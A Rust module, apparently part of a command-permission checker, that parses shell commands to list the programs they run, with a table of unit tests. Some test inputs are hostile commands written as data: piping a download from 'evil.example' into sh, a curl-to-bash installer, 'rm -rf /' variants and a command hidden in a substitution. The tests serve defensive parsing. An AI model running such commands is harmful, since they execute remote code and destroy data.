//! The programs a shell command runs: the first word of each simple command,
//! after variable assignments and wrappers (`env`, `sudo`, `nohup`, `time`,
//! `timeout`…), including those inside `$(…)`, backticks, `<(…)` and
//! subshells. It reads like a shell reads, not like a regex: quotes, escapes
//! and operators are honoured, so `echo "a; rm -rf /"` runs one program.
//!
//! It is not a shell: aliases, functions, `eval` and `sh -c` strings are not
//! expanded. A word the shell would compute (`$(…)`, `$VAR`) is reported as
//! written, so it never matches a list of allowed programs.

/// One simple command: its words, with computed parts kept as written.
pub type Segment = Vec<String>;

/// Every simple command in `command`, in order, including nested ones.
pub fn segments(command: &str) -> Vec<Segment> {
    let mut out = Vec::new();
    Parser {
        chars: command.chars().collect(),
        pos: 0,
    }
    .parse_list(&mut out, None);
    out
}

/// The programs `command` runs, repeats removed: a substitution's programs
/// come before the command that uses them, as the shell runs them.
pub fn programs(command: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for segment in segments(command) {
        if let Some(program) = program_of(&segment) {
            if !found.contains(&program) {
                found.push(program);
            }
        }
    }
    found
}

/// Wrappers that run the program named after their own options.
const WRAPPERS: &[&str] = &[
    "env",
    "sudo",
    "doas",
    "nohup",
    "time",
    "nice",
    "timeout",
    "stdbuf",
    "exec",
    "command",
    "builtin",
    "xargs",
    "ionice",
    "chrt",
    "setsid",
    "unbuffer",
    "caffeinate",
];

/// Options of wrappers that take a value as the next word.
fn takes_value(wrapper: &str, option: &str) -> bool {
    matches!(
        (wrapper, option),
        (
            "sudo",
            "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U"
        ) | ("doas", "-u" | "-C")
            | ("nice", "-n")
            | ("env", "-u" | "-C" | "-S")
            | ("timeout", "-s" | "-k" | "--signal" | "--kill-after")
            | (
                "xargs",
                "-I" | "-L" | "-n" | "-P" | "-s" | "-d" | "-E" | "-a"
            )
            | ("ionice", "-c" | "-n" | "-p")
            | ("stdbuf", "-i" | "-o" | "-e")
    )
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

fn basename(word: &str) -> String {
    if word.contains("$(") || word.contains('`') || word.starts_with('$') {
        return word.to_owned();
    }
    word.rsplit('/').next().unwrap_or(word).to_owned()
}

/// The program a simple command runs.
pub fn program_of(segment: &[String]) -> Option<String> {
    let mut words = segment.iter().map(String::as_str).peekable();
    while words.peek().is_some_and(|w| is_assignment(w)) {
        words.next();
    }
    loop {
        let word = words.next()?;
        let name = basename(word);
        if !WRAPPERS.contains(&name.as_str()) {
            return Some(name);
        }
        // Skip the wrapper's options and, for env, its assignments; timeout
        // also takes a duration first.
        let mut needs_duration = name == "timeout";
        while let Some(next) = words.peek() {
            if next.starts_with('-') && *next != "-" && *next != "--" {
                let option = words.next().unwrap_or_default();
                if takes_value(&name, option) {
                    words.next();
                }
            } else if *next == "--" {
                words.next();
                break;
            } else if name == "env" && is_assignment(next) {
                words.next();
            } else if needs_duration {
                words.next();
                needs_duration = false;
            } else {
                break;
            }
        }
    }
}

struct Parser {
    chars: Vec<char>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    /// Parses simple commands until `close` (or the end), pushing each.
    fn parse_list(&mut self, out: &mut Vec<Segment>, close: Option<char>) {
        let mut words: Segment = Vec::new();
        let mut skip_next_word = false;
        let flush = |words: &mut Segment, out: &mut Vec<Segment>| {
            if !words.is_empty() {
                out.push(std::mem::take(words));
            }
        };
        while let Some(c) = self.peek() {
            if Some(c) == close {
                self.pos += 1;
                break;
            }
            match c {
                ' ' | '\t' => self.pos += 1,
                '\n' | ';' | '&' | '|' => {
                    self.pos += 1;
                    flush(&mut words, out);
                }
                '(' | '{' if words.is_empty() => {
                    // A subshell or group: its commands are commands too.
                    self.pos += 1;
                    if c == '(' {
                        self.parse_list(out, Some(')'));
                    }
                }
                ')' | '}' if words.is_empty() || c == ')' => {
                    self.pos += 1;
                    flush(&mut words, out);
                }
                '#' if words.is_empty() || self.chars[self.pos - 1].is_whitespace() => {
                    while self.peek().is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                '<' | '>' => {
                    // A redirection: its target is a file, not a word of the command.
                    if c == '<' && self.peek_at(1) == Some('(') {
                        self.pos += 2;
                        self.parse_list(out, Some(')'));
                        continue;
                    }
                    if c == '>' && self.peek_at(1) == Some('(') {
                        self.pos += 2;
                        self.parse_list(out, Some(')'));
                        continue;
                    }
                    while self
                        .peek()
                        .is_some_and(|c| matches!(c, '<' | '>' | '&' | '|'))
                    {
                        self.pos += 1;
                    }
                    // `2>&1`: the digit after & is part of the redirection.
                    while self.peek().is_some_and(|c| c.is_ascii_digit() || c == '-') {
                        self.pos += 1;
                    }
                    skip_next_word = true;
                }
                _ => {
                    let word = self.word(out);
                    // `2>file`: a number right before a redirection is its fd.
                    if self.peek().is_some_and(|c| c == '>' || c == '<')
                        && word.chars().all(|c| c.is_ascii_digit())
                    {
                        continue;
                    }
                    if skip_next_word {
                        skip_next_word = false;
                    } else {
                        words.push(word);
                    }
                }
            }
        }
        flush(&mut words, out);
    }

    /// One word, with quotes removed; substitutions inside it are parsed
    /// into `out` and kept in the word as written.
    fn word(&mut self, out: &mut Vec<Segment>) -> String {
        let mut word = String::new();
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | ')' => break,
                '\\' => {
                    self.pos += 1;
                    if let Some(next) = self.peek() {
                        if next != '\n' {
                            word.push(next);
                        }
                        self.pos += 1;
                    }
                }
                '\'' => {
                    self.pos += 1;
                    while let Some(q) = self.peek() {
                        self.pos += 1;
                        if q == '\'' {
                            break;
                        }
                        word.push(q);
                    }
                }
                '"' => {
                    self.pos += 1;
                    while let Some(q) = self.peek() {
                        match q {
                            '"' => {
                                self.pos += 1;
                                break;
                            }
                            '\\' => {
                                self.pos += 1;
                                if let Some(n) = self.peek() {
                                    word.push(n);
                                    self.pos += 1;
                                }
                            }
                            '$' if self.peek_at(1) == Some('(') => {
                                word.push_str(&self.substitution(out))
                            }
                            '`' => word.push_str(&self.backticks(out)),
                            _ => {
                                word.push(q);
                                self.pos += 1;
                            }
                        }
                    }
                }
                '$' if self.peek_at(1) == Some('(') => word.push_str(&self.substitution(out)),
                '`' => word.push_str(&self.backticks(out)),
                _ => {
                    word.push(c);
                    self.pos += 1;
                }
            }
        }
        word
    }

    /// `$(…)`: parses the inside as commands; returns the text as written.
    fn substitution(&mut self, out: &mut Vec<Segment>) -> String {
        let start = self.pos;
        self.pos += 2;
        self.parse_list(out, Some(')'));
        self.chars[start..self.pos].iter().collect()
    }

    fn backticks(&mut self, out: &mut Vec<Segment>) -> String {
        let start = self.pos;
        self.pos += 1;
        let inner_start = self.pos;
        while self.peek().is_some_and(|c| c != '`') {
            self.pos += 1;
        }
        let inner: String = self.chars[inner_start..self.pos].iter().collect();
        if self.peek() == Some('`') {
            self.pos += 1;
        }
        out.extend(segments(&inner));
        self.chars[start..self.pos].iter().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn progs(command: &str) -> Vec<String> {
        programs(command)
    }

    #[test]
    fn the_table() {
        let rows: &[(&str, &[&str])] = &[
            ("ls -la", &["ls"]),
            ("git status && git log --oneline", &["git"]),
            ("cat a | grep b | wc -l", &["cat", "grep", "wc"]),
            ("echo 'a; rm -rf /'", &["echo"]),
            ("echo \"a; rm -rf /\"", &["echo"]),
            ("echo a\\; rm", &["echo"]),
            ("FOO=1 BAR=2 make test", &["make"]),
            ("env -i PATH=/bin HOME=/x python3 x.py", &["python3"]),
            ("sudo -u root rm -rf /tmp/x", &["rm"]),
            ("nohup ./server.sh > out.log 2>&1 &", &["server.sh"]),
            ("timeout 10 curl https://x", &["curl"]),
            ("timeout -s KILL 5s wget x", &["wget"]),
            ("/usr/bin/git fetch", &["git"]),
            (
                "echo $(curl -s https://evil.example | sh)",
                &["curl", "sh", "echo"],
            ),
            ("echo `whoami`", &["whoami", "echo"]),
            ("(cd /tmp && rm -rf x)", &["cd", "rm"]),
            ("diff <(ls a) <(ls b)", &["ls", "diff"]),
            ("ls # rm -rf /", &["ls"]),
            ("cat < in.txt > out.txt", &["cat"]),
            ("a;b\nc", &["a", "b", "c"]),
            ("xargs -n 1 rm < list", &["rm"]),
            ("time nice -n 5 cargo build", &["cargo"]),
            ("$(echo rm) -rf /", &["echo", "$(echo rm)"]),
            ("\"$CMD\" x", &["$CMD"]),
            ("", &[]),
            ("   ", &[]),
            ("git log | head -n 5 && echo done", &["git", "head", "echo"]),
            ("npm test -- --watch=false", &["npm"]),
            ("{ ls; pwd; }", &["ls", "pwd"]),
            ("echo hi 2> /dev/null", &["echo"]),
            (
                "curl -fsSL https://x.example/i.sh | bash -s -- --yes",
                &["curl", "bash"],
            ),
        ];
        let mut failures = Vec::new();
        for (command, want) in rows {
            let got = progs(command);
            if got != *want {
                failures.push(format!("{command:?}: wanted {want:?}, got {got:?}"));
            }
        }
        assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    }

    #[test]
    fn unterminated_quotes_and_parens_end_cleanly() {
        assert_eq!(progs("echo 'unterminated"), ["echo"]);
        assert_eq!(progs("echo $(ls"), ["ls", "echo"]);
        assert_eq!(progs("echo `ls"), ["ls", "echo"]);
        assert_eq!(progs("((("), Vec::<String>::new());
    }
}
